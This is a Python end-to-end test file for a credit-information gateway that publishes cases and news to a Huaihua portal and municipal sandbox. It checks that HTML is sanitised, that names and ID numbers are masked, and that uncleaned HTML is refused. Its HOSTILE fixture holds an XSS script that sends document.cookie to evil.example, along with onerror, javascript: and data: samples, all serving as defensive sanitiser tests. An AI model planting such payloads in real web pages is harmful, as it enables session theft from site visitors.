"""Articles end to end: a case and a news item posted to a real ``serve --sandbox`` process reach the portal's
right columns (典型案例 dxal, 工作动态 gzdt) with cleaned HTML and a masked person, and 信用怀化's /api/articles;
the national and provincial platforms never see them. And the sandbox's own side: uncleaned HTML sent around the
gateway is refused with 3001."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from adapters.sandbox.app import create_sandbox
from tests import live
from tests.e2e.test_cli import env_for, free_port, run, running
from tests.factories import case, make_resident_id, news

HOSTILE = (
    "<p>李某某长期拖欠工资。<script>document.location='https://evil.example/'+document.cookie</script></p>"
    '<p><img src="https://www.huaihua.gov.cn/zjj/1.png" alt="现场" onerror="alert(1)">'
    '<a href="javascript:alert(2)">举报</a><img src="data:image/png;base64,iVBORw0KGgo="></p>'
)
PORTAL = {"Authorization": "Bearer demo-portal-token"}


def municipal_token(base: str) -> dict[str, str]:
    form = {"grant_type": "client_credentials", "client_id": "demo-municipal", "client_secret": "demo-municipal-secret"}
    token = httpx.post(f"{base}/municipal/oauth/token", data=form).json()["access_token"]
    return {"Authorization": f"Bearer {token}"}


def published(base: str, key: str, path: str, deadline: float = 30.0) -> dict[str, Any]:
    """The record view once every publish delivery is published (polled with a deadline: the gateway has no
    long-poll of its own; the sandbox's /wait already proved the platforms hold it)."""
    stop = time.monotonic() + deadline
    while True:
        view: dict[str, Any] = httpx.get(f"{base}{path}", headers={"Authorization": f"Bearer {key}"}).json()
        if all(d["state"] == "published" for d in view["deliveries"]) or time.monotonic() > stop:
            return view
        time.sleep(0.2)


def test_a_case_and_a_news_item_are_published_on_the_portal_and_on_xinyong_huaihua(tmp_path: Path) -> None:
    port = free_port()
    env = env_for(tmp_path, CREDIT_GATEWAY_PORT=str(port))
    key = run(["keys", "create", "--name", "office-cms", "--role", "source", "--kinds", "cases,news"], env, tmp_path)
    key = key.stdout.split()[-1]
    person = {"name": "欧阳明", "category": "natural_person", "id_type": "resident_id", "id_number": make_resident_id()}
    with running(["serve", "--sandbox"], env, tmp_path):
        base = f"http://127.0.0.1:{port}"
        sandbox = f"{base}/sandbox"
        headers = {"Authorization": f"Bearer {key}"}
        posted = httpx.post(
            f"{base}/api/v1/cases", json=case(content_html=HOSTILE, counterpart=person), headers=headers
        )
        assert posted.status_code == 201, posted.text
        assert {r["name"] for r in posted.json()["removed"]} == {"script", "onerror", "javascript:", "data:"}
        assert httpx.post(f"{base}/api/v1/news", json=news(), headers=headers).status_code == 201

        for target in ("portal", "municipal"):
            held = httpx.get(f"{sandbox}/_admin/{target}/wait", params={"public": 2, "timeout": 20}, timeout=25)
            assert held.status_code == 200, (target, held.json())

        [dxal] = httpx.get(f"{sandbox}/portal/cms/api/notices", params={"column": "dxal"}, headers=PORTAL).json()[
            "items"
        ]
        assert dxal["title"] == case()["title"] and dxal["published_on"] == "2026/11/18"
        assert dxal["content_html"] == (
            '<p>李某某长期拖欠工资。</p><p><img src="https://www.huaihua.gov.cn/zjj/1.png" alt="现场"><a>举报</a></p>'
        )
        shown = {f["label"]: f["value"] for f in dxal["fields"]}
        assert shown["案例类型"] == "失信惩戒" and shown["行政相对人名称"] == "欧阳*"
        assert shown["证件号码"] == person["id_number"][:4] + "*" * 10 + person["id_number"][-4:]
        [gzdt] = httpx.get(f"{sandbox}/portal/cms/api/notices", params={"column": "gzdt"}, headers=PORTAL).json()[
            "items"
        ]
        assert gzdt["title"] == news()["title"] and "<ul><li>发放资料</li>" in gzdt["content_html"]
        assert (
            httpx.get(f"{sandbox}/portal/cms/api/notices", params={"column": "xzcf"}, headers=PORTAL).json()["items"]
            == []
        )

        token = municipal_token(sandbox)
        [al] = httpx.get(f"{sandbox}/municipal/api/articles", params={"type": "AL"}, headers=token).json()["items"]
        assert al["status"] == "public" and al["type"] == "AL"
        assert al["fields"]["WZ_ALLX"] == "失信惩戒" and al["fields"]["WZ_ZW"] == dxal["content_html"]
        [dt_] = httpx.get(f"{sandbox}/municipal/api/articles", params={"type": "DT"}, headers=token).json()["items"]
        assert dt_["fields"]["WZ_BT"] == news()["title"] and "WZ_ALLX" not in dt_["fields"]
        assert httpx.get(f"{sandbox}/municipal/api/records", headers=token).json()["items"] == []
        for platform in ("national", "provincial"):
            assert httpx.get(f"{sandbox}/_admin/{platform}/stats").json()["received_items"] == 0

        view = published(base, key, "/api/v1/cases/AL-2026-000002")
        assert {(d["target"], d["state"]) for d in view["deliveries"]} == {
            ("portal", "published"),
            ("municipal", "published"),
        }
        assert all(d["due_date"] is None for d in view["deliveries"])

        withdrawn = httpx.post(f"{base}/api/v1/news/DT-2026-000011/withdraw", json={"reason": "other"}, headers=headers)
        assert withdrawn.status_code == 200
        for target in ("portal", "municipal"):
            gone = httpx.get(f"{sandbox}/_admin/{target}/wait", params={"withdrawn": 1, "timeout": 20}, timeout=25)
            assert gone.status_code == 200, (target, gone.json())


@pytest.fixture(scope="module")
def sandbox() -> Iterator[str]:
    with live.serve(create_sandbox(result_delay=0)) as url:
        yield url


UNCLEAN = {
    "script": "<p>正文<script>alert(1)</script></p>",
    "onerror": '<p><img src="https://a.example/x.png" alt="x" onerror="alert(1)"></p>',
    "javascript": '<p><a href="javascript:alert(1)">点</a></p>',
    "data": '<p><img src="data:image/png;base64,AAAA" alt="x"></p>',
}


def notice(column: str, html: str | None) -> dict[str, Any]:
    body: dict[str, Any] = {"column": column, "title": "标题", "published_on": "2026/11/18", "fields": []}
    return body | ({} if html is None else {"content_html": html})


@pytest.mark.parametrize("what", sorted(UNCLEAN))
def test_the_sandbox_portal_refuses_uncleaned_html_with_3001(sandbox: str, what: str) -> None:
    url = f"{sandbox}/portal/cms/api/notices/around-{what}"
    refused = httpx.put(url, json=notice("dxal", UNCLEAN[what]), headers=PORTAL)
    assert refused.status_code == 422 and refused.json()["code"] == "3001", refused.text
    assert httpx.put(url, json=notice("gzdt", "<p>正文</p>"), headers=PORTAL).status_code == 201


@pytest.mark.parametrize("what", sorted(UNCLEAN))
def test_the_sandbox_municipal_refuses_uncleaned_html_with_3001(sandbox: str, what: str) -> None:
    fields = {"WZ_BT": "标题", "WZ_ZW": UNCLEAN[what], "WZ_FBRQ": "2026/11/18", "WZ_LYDW": "怀化市住房和城乡建设局"}
    item = {"key": f"k-{what}", "record_id": f"r-{what}", "op": "upsert", "type": "DT", "fields": fields}
    answer = httpx.post(f"{sandbox}/municipal/api/articles", json=[item], headers=municipal_token(sandbox)).json()
    assert answer["accepted"] == [] and [e["code"] for e in answer["errors"]] == ["3001"], answer


def test_the_sandbox_keeps_articles_and_records_apart(sandbox: str) -> None:
    token = municipal_token(sandbox)
    fields = {
        "WZ_BT": "标题",
        "WZ_ZW": "<p>正文</p>",
        "WZ_FBRQ": "2026/11/18",
        "WZ_LYDW": "单位",
        "WZ_ALLX": "守信激励",
    }
    item = {"key": "k-apart", "record_id": "r-apart", "op": "upsert", "type": "AL", "fields": fields}
    assert httpx.post(f"{sandbox}/municipal/api/records", json=[item], headers=token).status_code == 400
    assert httpx.post(f"{sandbox}/municipal/api/articles", json=[item], headers=token).json()["accepted"] == ["k-apart"]
    no_type = {**item, "key": "k-apart-2", "record_id": "r-apart-2", "fields": fields | {"WZ_ALLX": "表扬"}}
    answer = httpx.post(f"{sandbox}/municipal/api/articles", json=[no_type], headers=token).json()
    assert [e["code"] for e in answer["errors"]] == ["2004"]
    assert (
        httpx.put(f"{sandbox}/portal/cms/api/notices/r-no-html", json=notice("dxal", None), headers=PORTAL).status_code
        == 400
    )
    assert (
        httpx.put(
            f"{sandbox}/portal/cms/api/notices/r-html", json=notice("xzxk", "<p>x</p>"), headers=PORTAL
        ).status_code
        == 400
    )
